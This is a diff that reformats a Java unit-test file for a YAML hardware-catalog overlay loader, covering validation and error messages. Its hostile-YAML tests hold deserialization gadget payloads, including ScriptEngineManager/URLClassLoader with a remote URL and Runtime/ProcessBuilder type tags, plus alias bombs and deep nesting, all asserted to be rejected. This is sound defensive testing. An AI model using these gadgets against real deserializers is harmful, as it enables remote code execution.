@@ -25,7 +25,6 @@ import java.nio.file.Path;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.Disabled;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -59,7 +58,8 @@ class CatalogLoaderOverlayTest {
   }
 
   private static CatalogException loadFails(String name, String yaml) {
-    return tryLoad(true, name, yaml).orElseThrow(() -> new AssertionError("expected " + name + " to be rejected:\n" + yaml));
+    return tryLoad(true, name, yaml)
+        .orElseThrow(() -> new AssertionError("expected " + name + " to be rejected:\n" + yaml));
   }
 
   // ------------------------------------------------------------------ adding, replacing, appending
@@ -79,21 +79,28 @@ class CatalogLoaderOverlayTest {
     assertThat(a.compute()).isEmpty();
     assertThat(a.tdp()).isEmpty();
     assertThat(c.accelerators()).hasSize(builtInAccelerators.size() + 1);
-    assertThat(c.accelerators().subList(0, builtInAccelerators.size())).isEqualTo(builtInAccelerators);
-    assertThat(c.sources()).hasSize(builtInSources + 1).anySatisfy(s -> assertThat(s.id()).isEqualTo(SOURCE_ID));
+    assertThat(c.accelerators().subList(0, builtInAccelerators.size()))
+        .isEqualTo(builtInAccelerators);
+    assertThat(c.sources())
+        .hasSize(builtInSources + 1)
+        .anySatisfy(s -> assertThat(s.id()).isEqualTo(SOURCE_ID));
     assertThat(c.version()).isEqualTo("2026.12.02+overlay");
     // an overlay does not change when the built-in data was last checked
     assertThat(c.asOf()).contains(java.time.LocalDate.of(2026, 12, 2));
     assertThat(c.versionLine()).isEqualTo("catalog 2026.12.02+overlay, data as of 2026-12-02");
-    assertThat(c.overlayChanges()).singleElement().satisfies(ch -> {
-      assertThat(ch.kind()).isEqualTo(OverlayChange.Kind.ADDED);
-      assertThat(ch.section()).isEqualTo("accelerators");
-      assertThat(ch.id()).isEqualTo(ACCEL_ID);
-      assertThat(ch.field()).isEmpty();
-      assertThat(ch.file()).isEqualTo(FILE);
-      assertThat(ch.line()).isEqualTo(lineOf(yaml, "- id: " + ACCEL_ID));
-      assertThat(ch.describe()).isEqualTo(FILE + ":" + ch.line() + ": accelerators " + ACCEL_ID + " added");
-    });
+    assertThat(c.overlayChanges())
+        .singleElement()
+        .satisfies(
+            ch -> {
+              assertThat(ch.kind()).isEqualTo(OverlayChange.Kind.ADDED);
+              assertThat(ch.section()).isEqualTo("accelerators");
+              assertThat(ch.id()).isEqualTo(ACCEL_ID);
+              assertThat(ch.field()).isEmpty();
+              assertThat(ch.file()).isEqualTo(FILE);
+              assertThat(ch.line()).isEqualTo(lineOf(yaml, "- id: " + ACCEL_ID));
+              assertThat(ch.describe())
+                  .isEqualTo(FILE + ":" + ch.line() + ": accelerators " + ACCEL_ID + " added");
+            });
     assertBuiltInUnchanged();
   }
 
@@ -102,39 +109,58 @@ class CatalogLoaderOverlayTest {
     String yaml = render(CatalogGenerators.richOverlay());
     HardwareCatalog c = HardwareCatalog.loader().withBuiltIn().overlay(FILE, yaml).load();
 
-    assertThat(c.overlayChanges()).extracting(OverlayChange::kind).containsOnly(OverlayChange.Kind.ADDED);
-    assertThat(c.overlayChanges()).extracting(OverlayChange::section)
+    assertThat(c.overlayChanges())
+        .extracting(OverlayChange::kind)
+        .containsOnly(OverlayChange.Kind.ADDED);
+    assertThat(c.overlayChanges())
+        .extracting(OverlayChange::section)
         .containsExactly("accelerators", "nics", "switches", "links", "systems");
     SystemSpec s = c.system(CatalogGenerators.SYSTEM_ID);
     assertThat(s.accelerator()).isSameAs(c.accelerator(ACCEL_ID));
-    assertThat(s.nics()).singleElement().satisfies(n -> assertThat(n.nic()).isSameAs(c.nic(CatalogGenerators.NIC_ID)));
+    assertThat(s.nics())
+        .singleElement()
+        .satisfies(n -> assertThat(n.nic()).isSameAs(c.nic(CatalogGenerators.NIC_ID)));
     assertThat(c.accelerator("Overlay Test " + ACCEL_ID).id()).isEqualTo(ACCEL_ID);
-    assertThat(c.accelerator(ACCEL_ID).sparse(Precision.INT8)).contains(Precision.INT8.displayUnit().of(400));
-    assertThat(c.accelerator(ACCEL_ID).scaleUp().orElseThrow().bandwidth().orElseThrow().value().perDirection())
+    assertThat(c.accelerator(ACCEL_ID).sparse(Precision.INT8))
+        .contains(Precision.INT8.displayUnit().of(400));
+    assertThat(
+            c.accelerator(ACCEL_ID)
+                .scaleUp()
+                .orElseThrow()
+                .bandwidth()
+                .orElseThrow()
+                .value()
+                .perDirection())
         .isEqualTo(DataRateUnit.GIGABYTES_PER_SECOND.of(200));
-    assertThat(c.networkSwitch(CatalogGenerators.SWITCH_ID).switchingCapacity().orElseThrow().value().bidirectional())
+    assertThat(
+            c.networkSwitch(CatalogGenerators.SWITCH_ID)
+                .switchingCapacity()
+                .orElseThrow()
+                .value()
+                .bidirectional())
         .isEqualTo(DataRateUnit.TERABITS_PER_SECOND.of(102.4));
     assertThat(c.link(CatalogGenerators.LINK_ID).kind()).isEqualTo(LinkKind.TRANSCEIVER);
     assertBuiltInUnchanged();
   }
 
   static final String REPLACE_AND_APPEND =
-      "schema: flopex-catalog/1\n"                                                                  // 1
-          + "sources:\n"                                                                            // 2
-          + "  acme-h100-quote-2026:\n"                                                             // 3
-          + "    title: \"ACME quote for H100 SXM5\"\n"                                             // 4
-          + "    url: \"https://example.com/acme-quote\"\n"                                         // 5
-          + "    read: 2026-11-20\n"                                                                // 6
-          + "    kind: other\n"                                                                     // 7
-          + "accelerators:\n"                                                                       // 8
-          + "  - id: h100-sxm5\n"                                                                   // 9
+      "schema: flopex-catalog/1\n" // 1
+          + "sources:\n" // 2
+          + "  acme-h100-quote-2026:\n" // 3
+          + "    title: \"ACME quote for H100 SXM5\"\n" // 4
+          + "    url: \"https://example.com/acme-quote\"\n" // 5
+          + "    read: 2026-11-20\n" // 6
+          + "    kind: other\n" // 7
+          + "accelerators:\n" // 8
+          + "  - id: h100-sxm5\n" // 9
           + "    tdp_w: {value: 650, source: acme-h100-quote-2026, confidence: medium, note: \"power-capped\"}\n" // 10
-          + "    prices:\n"                                                                         // 11
+          + "    prices:\n" // 11
           + "      - {usd: 21000, as_of: 2026-10, basis: negotiated, unit: per-gpu, region: US, description: \"negotiated price per GPU\", source: acme-h100-quote-2026, confidence: medium}\n"; // 12
 
   @Test
   void test_load_replaceTdpAndAppendPrice_reportsReplacedAndAppendedWithFileAndLine() {
-    HardwareCatalog c = HardwareCatalog.loader().withBuiltIn().overlay("acme.yaml", REPLACE_AND_APPEND).load();
+    HardwareCatalog c =
+        HardwareCatalog.loader().withBuiltIn().overlay("acme.yaml", REPLACE_AND_APPEND).load();
 
     assertThat(c.overlayChanges()).hasSize(2);
     OverlayChange replaced = c.overlayChanges().get(0);
@@ -144,7 +170,8 @@ class CatalogLoaderOverlayTest {
     assertThat(replaced.field()).isEqualTo("tdp_w");
     assertThat(replaced.file()).isEqualTo("acme.yaml");
     assertThat(replaced.line()).isEqualTo(10);
-    assertThat(replaced.describe()).isEqualTo("acme.yaml:10: accelerators h100-sxm5.tdp_w replaced");
+    assertThat(replaced.describe())
+        .isEqualTo("acme.yaml:10: accelerators h100-sxm5.tdp_w replaced");
     OverlayChange appended = c.overlayChanges().get(1);
     assertThat(appended.kind()).isEqualTo(OverlayChange.Kind.APPENDED);
     assertThat(appended.field()).isEqualTo("prices");
@@ -153,12 +180,14 @@ class CatalogLoaderOverlayTest {
 
     Accelerator h100 = c.accelerator("H100");
     assertThat(h100.tdp().orElseThrow().value()).isEqualTo(PowerUnit.WATTS.of(650));
-    assertThat(h100.tdp().orElseThrow().provenance().source().id()).isEqualTo("acme-h100-quote-2026");
+    assertThat(h100.tdp().orElseThrow().provenance().source().id())
+        .isEqualTo("acme-h100-quote-2026");
     assertThat(h100.tdp().orElseThrow().provenance().note()).contains("power-capped");
     assertThat(h100.prices()).hasSize(3);
     assertThat(h100.latestPrice().orElseThrow().price()).isEqualTo(Money.usd(21000));
     assertThat(h100.latestPrice().orElseThrow().asOf()).isEqualTo(PartialDate.parse("2026-10"));
-    assertThat(h100.prices().subList(0, 2)).isEqualTo(HardwareCatalog.builtIn().accelerator("h100-sxm5").prices());
+    assertThat(h100.prices().subList(0, 2))
+        .isEqualTo(HardwareCatalog.builtIn().accelerator("h100-sxm5").prices());
     // fields the overlay does not name are the base data's
     Accelerator base = HardwareCatalog.builtIn().accelerator("h100-sxm5");
     assertThat(h100.compute()).isEqualTo(base.compute());
@@ -173,20 +202,41 @@ class CatalogLoaderOverlayTest {
   @Test
   void test_load_secondOverlayChangesFirstOverlaysEntry() {
     String first = render(CatalogGenerators.minimalOverlay());
-    String second = "schema: flopex-catalog/1\naccelerators:\n  - id: " + ACCEL_ID + "\n"
-        + "    tdp_w: {value: 275, source: " + SOURCE_ID + ", confidence: low}\n";
-    HardwareCatalog c = HardwareCatalog.loader().withBuiltIn().overlay("first.yaml", first).overlay("second.yaml", second).load();
+    String second =
+        "schema: flopex-catalog/1\naccelerators:\n  - id: "
+            + ACCEL_ID
+            + "\n"
+            + "    tdp_w: {value: 275, source: "
+            + SOURCE_ID
+            + ", confidence: low}\n";
+    HardwareCatalog c =
+        HardwareCatalog.loader()
+            .withBuiltIn()
+            .overlay("first.yaml", first)
+            .overlay("second.yaml", second)
+            .load();
 
-    assertThat(c.accelerator(ACCEL_ID).tdp().orElseThrow().value()).isEqualTo(PowerUnit.WATTS.of(275));
-    assertThat(c.overlayChanges()).extracting(OverlayChange::describe).containsExactly(
-        "first.yaml:" + lineOf(first, "- id: " + ACCEL_ID) + ": accelerators " + ACCEL_ID + " added",
-        "second.yaml:4: accelerators " + ACCEL_ID + ".tdp_w replaced");
+    assertThat(c.accelerator(ACCEL_ID).tdp().orElseThrow().value())
+        .isEqualTo(PowerUnit.WATTS.of(275));
+    assertThat(c.overlayChanges())
+        .extracting(OverlayChange::describe)
+        .containsExactly(
+            "first.yaml:"
+                + lineOf(first, "- id: " + ACCEL_ID)
+                + ": accelerators "
+                + ACCEL_ID
+                + " added",
+            "second.yaml:4: accelerators " + ACCEL_ID + ".tdp_w replaced");
     assertBuiltInUnchanged();
   }
 
   @Test
   void test_load_withoutBuiltIn_holdsOnlyTheOverlay() {
-    HardwareCatalog c = HardwareCatalog.loader().withoutBuiltIn().overlay(FILE, render(CatalogGenerators.richOverlay())).load();
+    HardwareCatalog c =
+        HardwareCatalog.loader()
+            .withoutBuiltIn()
+            .overlay(FILE, render(CatalogGenerators.richOverlay()))
+            .load();
     assertThat(c.accelerators()).extracting(Part::id).containsExactly(ACCEL_ID);
     assertThat(c.findAccelerator("h100")).isEmpty();
     assertThat(c.version()).isEqualTo("user+overlay");
@@ -199,83 +249,150 @@ class CatalogLoaderOverlayTest {
 
   @Test
   void test_load_failingOverlay_leavesNothingHalfApplied() {
-    String bad = render(set(CatalogGenerators.richOverlay(), "-1", "systems", 0, "accelerator_count", "value"));
-    CatalogLoader loader = HardwareCatalog.loader().withBuiltIn().overlay("acme.yaml", REPLACE_AND_APPEND).overlay(FILE, bad);
+    String bad =
+        render(
+            set(CatalogGenerators.richOverlay(), "-1", "systems", 0, "accelerator_count", "value"));
+    CatalogLoader loader =
+        HardwareCatalog.loader()
+            .withBuiltIn()
+            .overlay("acme.yaml", REPLACE_AND_APPEND)
+            .overlay(FILE, bad);
 
     CatalogException e = catchThrowableOfType(CatalogException.class, loader::load);
     assertThat(e).isNotNull();
     assertThat(e.file()).isEqualTo(FILE);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":" + lineOf(bad, "value: -1") + ": systems[0].accelerator_count.value must be > 0 but was -1");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":"
+                + lineOf(bad, "value: -1")
+                + ": systems[0].accelerator_count.value must be > 0 but was -1");
     assertBuiltInUnchanged();
     // a failed load leaves no state behind: the good overlay alone still loads, and only it applies
-    HardwareCatalog good = HardwareCatalog.loader().withBuiltIn().overlay("acme.yaml", REPLACE_AND_APPEND).load();
+    HardwareCatalog good =
+        HardwareCatalog.loader().withBuiltIn().overlay("acme.yaml", REPLACE_AND_APPEND).load();
     assertThat(good.findAccelerator(ACCEL_ID)).isEmpty();
     assertThat(good.overlayChanges()).hasSize(2);
-    assertThat(good.accelerator("h100-sxm5").tdp().orElseThrow().value()).isEqualTo(PowerUnit.WATTS.of(650));
+    assertThat(good.accelerator("h100-sxm5").tdp().orElseThrow().value())
+        .isEqualTo(PowerUnit.WATTS.of(650));
     assertBuiltInUnchanged();
   }
 
   @Test
   void test_load_failingReplacement_namesOverlayFileLineAndRule() {
-    String yaml = "schema: flopex-catalog/1\naccelerators:\n  - id: h100-sxm5\n"
-        + "    tdp_w: {value: -700, source: nvidia-h100-product-page-specs, confidence: high}\n";
+    String yaml =
+        "schema: flopex-catalog/1\naccelerators:\n  - id: h100-sxm5\n"
+            + "    tdp_w: {value: -700, source: nvidia-h100-product-page-specs, confidence: high}\n";
     CatalogException e = loadFails("mine.yaml", yaml);
-    assertThat(e.getMessage()).isEqualTo("mine.yaml:4: accelerators[0].tdp_w.value must be > 0 W but was -700 W");
+    assertThat(e.getMessage())
+        .isEqualTo("mine.yaml:4: accelerators[0].tdp_w.value must be > 0 W but was -700 W");
     assertThat(e.line()).contains(4);
     assertBuiltInUnchanged();
   }
 
   @Test
   void test_load_sourceIdAlreadyBuiltIn_rejected() {
-    String yaml = "schema: flopex-catalog/1\nsources:\n  nvidia-h100-product-page-specs:\n"
-        + "    title: \"impostor\"\n    read: 2026-11-28\n    kind: other\n";
+    String yaml =
+        "schema: flopex-catalog/1\nsources:\n  nvidia-h100-product-page-specs:\n"
+            + "    title: \"impostor\"\n    read: 2026-11-28\n    kind: other\n";
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":3: sources.nvidia-h100-product-page-specs must be a source id not already defined"
-        + " (source ids are global) but was 'nvidia-h100-product-page-specs'");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":3: sources.nvidia-h100-product-page-specs must be a source id not already defined"
+                + " (source ids are global) but was 'nvidia-h100-product-page-specs'");
   }
 
   // ------------------------------------------------------------------ exact messages and lines
 
   @Test
   void test_load_sparseBelowDense_namesFieldRuleAndLine() {
-    String yaml = render(set(CatalogGenerators.richOverlay(), "50", "accelerators", 0, "compute", "bf16", "sparse_tflops"));
+    String yaml =
+        render(
+            set(
+                CatalogGenerators.richOverlay(),
+                "50",
+                "accelerators",
+                0,
+                "compute",
+                "bf16",
+                "sparse_tflops"));
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":" + lineOf(yaml, "sparse_tflops: 50")
-        + ": accelerators[0].compute.bf16.sparse_tflops must be >= the dense figure (100 TFLOP/s) but was 50 TFLOP/s");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":"
+                + lineOf(yaml, "sparse_tflops: 50")
+                + ": accelerators[0].compute.bf16.sparse_tflops must be >= the dense figure (100 TFLOP/s) but was 50 TFLOP/s");
     assertThat(e.field()).isEqualTo("accelerators[0].compute.bf16.sparse_tflops");
     assertThat(e.value()).contains("50 TFLOP/s");
   }
 
   @Test
   void test_load_unknownPrecision_listsKnownOnes() {
-    Map<String, Object> doc = set(CatalogGenerators.richOverlay(), CatalogGenerators.figure("dense_tflops", "1"), "accelerators", 0, "compute", "fp3");
+    Map<String, Object> doc =
+        set(
+            CatalogGenerators.richOverlay(),
+            CatalogGenerators.figure("dense_tflops", "1"),
+            "accelerators",
+            0,
+            "compute",
+            "fp3");
     String yaml = render(doc);
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":" + lineOf(yaml, "fp3:") + ": accelerators[0].compute.fp3 must be one of"
-        + " fp64_vector, fp64_tensor, fp32, tf32, bf16, fp16, fp8, int8, fp6, fp4, mxfp8, mxfp6, mxfp4, nvfp4 but was 'fp3'");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":"
+                + lineOf(yaml, "fp3:")
+                + ": accelerators[0].compute.fp3 must be one of"
+                + " fp64_vector, fp64_tensor, fp32, tf32, bf16, fp16, fp8, int8, fp6, fp4, mxfp8, mxfp6, mxfp4, nvfp4 but was 'fp3'");
   }
 
   @Test
   void test_load_duplicateIdInOneFile_namesSecondEntry() {
-    String yaml = render(CatalogGenerators.append(CatalogGenerators.minimalOverlay(), CatalogGenerators.minimalAccelerator(ACCEL_ID), "accelerators"));
+    String yaml =
+        render(
+            CatalogGenerators.append(
+                CatalogGenerators.minimalOverlay(),
+                CatalogGenerators.minimalAccelerator(ACCEL_ID),
+                "accelerators"));
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":" + lineOf(yaml, "- id: " + ACCEL_ID, 1)
-        + ": accelerators[1].id must be unique within accelerators (duplicate id) but was '" + ACCEL_ID + "'");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":"
+                + lineOf(yaml, "- id: " + ACCEL_ID, 1)
+                + ": accelerators[1].id must be unique within accelerators (duplicate id) but was '"
+                + ACCEL_ID
+                + "'");
   }
 
   @Test
   void test_load_hugeNumber1e400_rejectedAsNotFinite() {
-    String yaml = render(set(CatalogGenerators.richOverlay(), "1e400", "accelerators", 0, "tdp_w", "value"));
+    String yaml =
+        render(set(CatalogGenerators.richOverlay(), "1e400", "accelerators", 0, "tdp_w", "value"));
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).isEqualTo(FILE + ":" + lineOf(yaml, "value: 1e400") + ": accelerators[0].tdp_w.value must be finite (it is beyond the range of a double) but was 1e400");
+    assertThat(e.getMessage())
+        .isEqualTo(
+            FILE
+                + ":"
+                + lineOf(yaml, "value: 1e400")
+                + ": accelerators[0].tdp_w.value must be finite (it is beyond the range of a double) but was 1e400");
   }
 
   @Test
   void test_load_unknownField_listsKnownFields() {
     String yaml = render(set(CatalogGenerators.richOverlay(), "red", "accelerators", 0, "colour"));
     CatalogException e = loadFails(FILE, yaml);
-    assertThat(e.getMessage()).startsWith(FILE + ":" + lineOf(yaml, "colour: red") + ": accelerators[0].colour is not a known field (known here: ")
-        .contains("tdp_w").endsWith(" but was 'colour'");
+    assertThat(e.getMessage())
+        .startsWith(
+            FILE
+                + ":"
+                + lineOf(yaml, "colour: red")
+                + ": accelerators[0].colour is not a known field (known here: ")
+        .contains("tdp_w")
+        .endsWith(" but was 'colour'");
   }
 
   // ------------------------------------------------------------------ hostile YAML
@@ -284,14 +401,17 @@ class CatalogLoaderOverlayTest {
   void test_load_typeTags_rejectedWithoutInstantiatingAnything(@TempDir Path dir) {
     Path marker = dir.resolve("pwned");
     String[] gadgets = {
-        "schema: flopex-catalog/1\nsources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
-        "schema: flopex-catalog/1\naccelerators:\n  - !!java.lang.Runtime {}\n",
-        "schema: !!java.lang.ProcessBuilder [[\"touch\", \"" + marker + "\"]]\n",
-        "!!java.lang.Runtime\nschema: flopex-catalog/1\n",
+      "schema: flopex-catalog/1\nsources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
+      "schema: flopex-catalog/1\naccelerators:\n  - !!java.lang.Runtime {}\n",
+      "schema: !!java.lang.ProcessBuilder [[\"touch\", \"" + marker + "\"]]\n",
+      "!!java.lang.Runtime\nschema: flopex-catalog/1\n",
     };
     for (String g : gadgets) {
       CatalogException e = loadFails(FILE, g);
-      assertThat(e.getMessage()).as(g).startsWith(FILE + ":").contains("must be plain YAML (type tags are not allowed)");
+      assertThat(e.getMessage())
+          .as(g)
+          .startsWith(FILE + ":")
+          .contains("must be plain YAML (type tags are not allowed)");
       assertThat(e.line()).as(g).isPresent();
     }
     assertThat(marker).doesNotExist();
@@ -302,21 +422,30 @@ class CatalogLoaderOverlayTest {
     String bomb = CatalogGenerators.hostileDocuments().get(0);
     long start = System.nanoTime();
     CatalogException e = loadFails(FILE, bomb);
-    assertThat(e.getMessage()).startsWith(FILE + ":2: ").endsWith(" must be plain YAML (anchors and aliases are not allowed) but was '&a0'");
+    assertThat(e.getMessage())
+        .startsWith(FILE + ":2: ")
+        .endsWith(" must be plain YAML (anchors and aliases are not allowed) but was '&a0'");
     assertThat((System.nanoTime() - start) / 1e9).as("seconds").isLessThan(5);
   }
 
   @Test
   void test_load_nesting1000Deep_rejected() {
-    for (String deep : List.of(
-        "schema: flopex-catalog/1\naccelerators: " + "[".repeat(1000) + "]".repeat(1000) + "\n",
-        "schema: flopex-catalog/1\nsources: " + "{a: ".repeat(1000) + "1" + "}".repeat(1000) + "\n",
-        "schema: flopex-catalog/1\naccelerators:\n" + "- ".repeat(1000) + "x\n")) {
+    for (String deep :
+        List.of(
+            "schema: flopex-catalog/1\naccelerators: " + "[".repeat(1000) + "]".repeat(1000) + "\n",
+            "schema: flopex-catalog/1\nsources: "
+                + "{a: ".repeat(1000)
+                + "1"
+                + "}".repeat(1000)
+                + "\n",
+            "schema: flopex-catalog/1\naccelerators:\n" + "- ".repeat(1000) + "x\n")) {
       CatalogException e = loadFails(FILE, deep);
       // flow collections are stopped by the linear pre-scan, block ones by SnakeYAML's own limit
-      assertThat(e.getMessage()).startsWith(FILE).satisfiesAnyOf(
-          m -> assertThat(m).contains("must nest lists and mappings at most 40 deep"),
-          m -> assertThat(m).contains("must be well-formed YAML").contains("nesting depth"));
+      assertThat(e.getMessage())
+          .startsWith(FILE)
+          .satisfiesAnyOf(
+              m -> assertThat(m).contains("must nest lists and mappings at most 40 deep"),
+              m -> assertThat(m).contains("must be well-formed YAML").contains("nesting depth"));
     }
   }
 
@@ -360,14 +489,17 @@ class CatalogLoaderOverlayTest {
     Path f = dir.resolve("mine.yaml");
     Files.writeString(f, render(CatalogGenerators.minimalOverlay()));
     HardwareCatalog c = HardwareCatalog.loader().overlay(f).load();
-    assertThat(c.overlayChanges()).singleElement().satisfies(ch -> assertThat(ch.file()).isEqualTo("mine.yaml"));
+    assertThat(c.overlayChanges())
+        .singleElement()
+        .satisfies(ch -> assertThat(ch.file()).isEqualTo("mine.yaml"));
   }
 
   // ------------------------------------------------------------------ aliases, anchors
 
   @Test
   void test_load_scalarAnchorAndAlias_rejected() {
-    Map<String, Object> doc = set(CatalogGenerators.minimalOverlay(), "&v NVIDIA", "accelerators", 0, "vendor");
+    Map<String, Object> doc =
+        set(CatalogGenerators.minimalOverlay(), "&v NVIDIA", "accelerators", 0, "vendor");
     doc = set(doc, "*v", "accelerators", 0, "architecture");
     CatalogException e = loadFails(FILE, render(doc));
     assertThat(e.getMessage()).contains("must be plain YAML (anchors and aliases are not allowed)");
@@ -375,7 +507,13 @@ class CatalogLoaderOverlayTest {
 
   @Test
   void test_load_ambiguousAlias_namesOverlayFileAndLine() {
-    Map<String, Object> doc = set(CatalogGenerators.minimalOverlay(), CatalogGenerators.list(CatalogGenerators.quoted("H100")), "accelerators", 0, "aliases");
+    Map<String, Object> doc =
+        set(
+            CatalogGenerators.minimalOverlay(),
+            CatalogGenerators.list(CatalogGenerators.quoted("H100")),
+            "accelerators",
+            0,
+            "aliases");
     String yaml = render(doc);
     CatalogException e = loadFails(FILE, yaml);
     assertThat(e.file()).isEqualTo(FILE);
@@ -403,15 +541,27 @@ class CatalogLoaderOverlayTest {
   void test_load_deepFlowNesting_rejectedInLinearTime() {
     String deep = "[".repeat(200_000);
     long start = System.nanoTime();
-    CatalogException e = tryLoad(
-        () -> HardwareCatalog.loader().withoutBuiltIn().overlay(FILE, deep).load(), "'[' x 200000").orElseThrow();
+    CatalogException e =
+        tryLoad(
+                () -> HardwareCatalog.loader().withoutBuiltIn().overlay(FILE, deep).load(),
+                "'[' x 200000")
+            .orElseThrow();
     assertThat(e.getMessage()).startsWith(FILE);
-    assertThat((System.nanoTime() - start) / 1e9).as("seconds to reject 200,000 nested '['").isLessThan(5.0);
+    assertThat((System.nanoTime() - start) / 1e9)
+        .as("seconds to reject 200,000 nested '['")
+        .isLessThan(5.0);
   }
 
   @Test
   void test_load_precisionKeysDifferingOnlyInCase_rejectedAsDuplicates() {
-    Map<String, Object> doc = set(CatalogGenerators.richOverlay(), CatalogGenerators.figure("dense_tflops", "999"), "accelerators", 0, "compute", "BF16");
+    Map<String, Object> doc =
+        set(
+            CatalogGenerators.richOverlay(),
+            CatalogGenerators.figure("dense_tflops", "999"),
+            "accelerators",
+            0,
+            "compute",
+            "BF16");
     CatalogException e = loadFails(FILE, render(doc));
     assertThat(e.getMessage()).contains("accelerators[0].compute");
   }
@@ -422,8 +572,14 @@ class CatalogLoaderOverlayTest {
     java.util.Optional<CatalogException> e = tryLoad(true, FILE, yaml);
     if (e.isEmpty()) {
       HardwareCatalog c = HardwareCatalog.loader().withBuiltIn().overlay(FILE, yaml).load();
-      boolean reportedReplaced = c.overlayChanges().stream().anyMatch(ch -> ch.field().equals("tdp_w") && ch.kind() == OverlayChange.Kind.REPLACED);
-      boolean actuallyChanged = !c.accelerator("h100-sxm5").tdp().equals(HardwareCatalog.builtIn().accelerator("h100-sxm5").tdp());
+      boolean reportedReplaced =
+          c.overlayChanges().stream()
+              .anyMatch(
+                  ch -> ch.field().equals("tdp_w") && ch.kind() == OverlayChange.Kind.REPLACED);
+      boolean actuallyChanged =
+          !c.accelerator("h100-sxm5")
+              .tdp()
+              .equals(HardwareCatalog.builtIn().accelerator("h100-sxm5").tdp());
       assertThat(reportedReplaced).as("reported as replaced").isEqualTo(actuallyChanged);
     }
   }
@@ -431,7 +587,8 @@ class CatalogLoaderOverlayTest {
   @Test
   void test_load_nanAndInfinity_namedWithFieldAndLine() {
     for (String v : List.of(".nan", ".inf", "-.inf")) {
-      String yaml = render(set(CatalogGenerators.richOverlay(), v, "accelerators", 0, "tdp_w", "value"));
+      String yaml =
+          render(set(CatalogGenerators.richOverlay(), v, "accelerators", 0, "tdp_w", "value"));
       CatalogException e = loadFails(FILE, yaml);
       assertThat(e.line()).as(v).contains(lineOf(yaml, "value: " + v));
       assertThat(e.getMessage()).as(v).contains("accelerators[0].tdp_w.value");
@@ -440,23 +597,48 @@ class CatalogLoaderOverlayTest {
 
   @Test
   void test_load_leadingZeroNumber_notReadAsOctal() {
-    String yaml = render(set(CatalogGenerators.minimalOverlay(), CatalogGenerators.figure("value", "012"), "accelerators", 0, "tdp_w"));
+    String yaml =
+        render(
+            set(
+                CatalogGenerators.minimalOverlay(),
+                CatalogGenerators.figure("value", "012"),
+                "accelerators",
+                0,
+                "tdp_w"));
     java.util.Optional<CatalogException> e = tryLoad(false, FILE, yaml);
     if (e.isEmpty()) {
       HardwareCatalog c = HardwareCatalog.loader().withoutBuiltIn().overlay(FILE, yaml).load();
-      assertThat(c.accelerator(ACCEL_ID).tdp().orElseThrow().value().in(PowerUnit.WATTS)).isEqualTo(12.0);
+      assertThat(c.accelerator(ACCEL_ID).tdp().orElseThrow().value().in(PowerUnit.WATTS))
+          .isEqualTo(12.0);
     }
   }
 
   @Test
   void test_load_bandwidthThatOverflowsWhenDoubled_rejectedAtLoad() {
-    Map<String, Object> doc = set(CatalogGenerators.richOverlay(), "1.5e308", "accelerators", 0, "scale_up", "bandwidth", "value");
+    Map<String, Object> doc =
+        set(
+            CatalogGenerators.richOverlay(),
+            "1.5e308",
+            "accelerators",
+            0,
+            "scale_up",
+            "bandwidth",
+            "value");
     doc = set(doc, "per_direction", "accelerators", 0, "scale_up", "bandwidth", "direction");
     String yaml = render(doc);
     java.util.Optional<CatalogException> e = tryLoad(false, FILE, yaml);
     if (e.isEmpty()) {
       HardwareCatalog c = HardwareCatalog.loader().withoutBuiltIn().overlay(FILE, yaml).load();
-      assertThat(c.accelerator(ACCEL_ID).scaleUp().orElseThrow().bandwidth().orElseThrow().value().bidirectional().isPositive()).isTrue();
+      assertThat(
+              c.accelerator(ACCEL_ID)
+                  .scaleUp()
+                  .orElseThrow()
+                  .bandwidth()
+                  .orElseThrow()
+                  .value()
+                  .bidirectional()
+                  .isPositive())
+          .isTrue();
     }
   }
 }
